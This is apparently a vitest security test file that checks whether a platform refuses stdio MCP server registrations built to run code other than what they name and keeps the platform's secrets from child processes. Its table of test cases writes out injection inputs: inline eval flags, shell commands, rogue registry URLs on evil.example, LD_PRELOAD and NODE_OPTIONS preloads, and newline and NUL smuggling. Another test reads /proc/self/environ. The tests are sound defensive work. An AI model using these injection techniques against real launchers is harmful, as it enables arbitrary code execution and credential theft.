import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestApp, type TestApp } from '../http/support/app.ts';
import { ask, type EventItem, type Execution, type Mcp } from '../integration/support/api.ts';

const hostile = join(import.meta.dirname, '../fixtures/hostile/server.mjs');
const planted = 'the-master-key-of-this-platform-0123456789';

let app: TestApp;
let directory: string;
let marker: string;
beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'annals-launch-'));
  marker = join(directory, 'was-started');
  app = await startTestApp({
    env: {
      ANNALS_STDIO_ALLOW: 'node,npx,uvx,python3,git',
      ANNALS_MASTER_KEY: planted,
      ANNALS_JWT_SECRET: `jwt-${planted}`,
    },
  });
});
afterAll(async () => {
  await app.close();
  rmSync(directory, { recursive: true });
});

describe('SEC2: a command that would run something else than it names is refused, and nothing is started', () => {
  const touch = (path: string) => `require('fs').writeFileSync(${JSON.stringify(path)}, '')`;
  const attacks: Readonly<Record<string, () => object>> = {
    'node -e': () => ({ command: 'node', args: ['-e', touch(marker)] }),
    'node --eval=': () => ({ command: 'node', args: [`--eval=${touch(marker)}`] }),
    'node -p behind a harmless option': () => ({ command: 'node', args: ['--no-warnings', '-p', touch(marker)] }),
    'node --require': () => ({ command: 'node', args: ['--require', '/tmp/evil.js', hostile] }),
    'node --import data:': () => ({ command: 'node', args: ['--import', 'data:text/javascript,1', hostile] }),
    'python3 -c': () => ({ command: 'python3', args: ['-c', `open(${JSON.stringify(marker)}, 'w')`] }),
    'npx --call': () => ({ command: 'npx', args: ['--call', `touch ${marker}`] }),
    'npx with a registry of its own': () => ({ command: 'npx', args: ['--registry=http://evil.example', '-y', 'x'] }),
    'uvx with an index of its own': () => ({ command: 'uvx', args: ['--index-url', 'http://evil.example', 'x'] }),
    'a shell': () => ({ command: 'sh', args: ['-c', `touch ${marker}`] }),
    'a command with arguments in it': () => ({ command: `node -e ${touch(marker)}`, args: [] }),
    'a relative path': () => ({ command: './node', args: [hostile] }),
    LD_PRELOAD: () => ({ command: 'node', args: [hostile], env: { LD_PRELOAD: '/tmp/evil.so' } }),
    NODE_OPTIONS: () => ({ command: 'node', args: [hostile], env: { NODE_OPTIONS: '--require /tmp/evil.js' } }),
    npm_config_registry: () => ({ command: 'npx', args: ['-y', 'x'], env: { npm_config_registry: 'http://evil' } }),
    NPM_CONFIG_USERCONFIG: () => ({ command: 'npx', args: ['-y', 'x'], env: { NPM_CONFIG_USERCONFIG: '/tmp/evil' } }),
    PATH: () => ({ command: 'node', args: [hostile], env: { PATH: directory } }),
    GIT_SSH_COMMAND: () => ({ command: 'node', args: [hostile], env: { GIT_SSH_COMMAND: `touch ${marker}` } }),
    'a line break in an argument': () => ({ command: 'node', args: [hostile, 'a\nb'] }),
    'NUL in an argument': () => ({ command: 'node', args: [hostile, 'a\0b'] }),
    'a line break in a variable': () => ({ command: 'node', args: [hostile], env: { NAME: 'a\nLD_PRELOAD=/tmp/x' } }),
    'a name of a variable that is none': () => ({ command: 'node', args: [hostile], env: { 'A=B': 'c' } }),
    '.. in the working directory': () => ({ command: 'node', args: [hostile], cwd: `${directory}/../etc` }),
  };

  test.each(Object.keys(attacks))('%s', async (name) => {
    const before = await app.head();
    const transport = { type: 'stdio', ...attacks[name]?.() };
    const reply = await app.request('POST', '/api/v1/mcps', { body: { name: 'attack', transport } });
    expect(reply.status, reply.text).toBe(422);
    expect(await app.head()).toBe(before);
    expect(existsSync(marker)).toBe(false);
  });
});

test('SEC2: a program gets the variables that were named and nothing of the platform’s own', async () => {
  const transport = { type: 'stdio', command: 'node', args: [hostile], env: { GIVEN: 'yes' } };
  const mcp = await ask<Mcp>(app, 201, 'POST', '/api/v1/mcps', { body: { name: 'hostile', transport } });
  const run = async (tool: string, args: object) => {
    const body = { mcpId: mcp.id, tool, arguments: args };
    const { result } = await ask<Execution>(app, 200, 'POST', '/api/v1/executions', { body });
    return result?.content[0]?.text ?? '';
  };
  const names = (await run('environment', {})).split(' ');
  expect(names).toContain('GIVEN');
  expect(names.filter((name) => /ANNALS|SECRET|TOKEN|PASSWORD/.test(name))).toEqual([]);
  expect(await run('read', { path: '/proc/self/environ' })).not.toContain(planted);
});

test('SEC2: a program is started after its registration stands in the log, not before', async () => {
  const transport = { type: 'stdio', command: 'node', args: [hostile] };
  const mcp = await ask<Mcp>(app, 201, 'POST', '/api/v1/mcps', { body: { name: 'in-order', transport } });
  const path = `/api/v1/streams/mcp-${mcp.id}/events`;
  const { items } = await ask<{ items: EventItem[] }>(app, 200, 'GET', path);
  expect(items.map(({ type }) => type).slice(0, 2)).toEqual(['McpRegistered', 'ToolsDiscovered']);
});
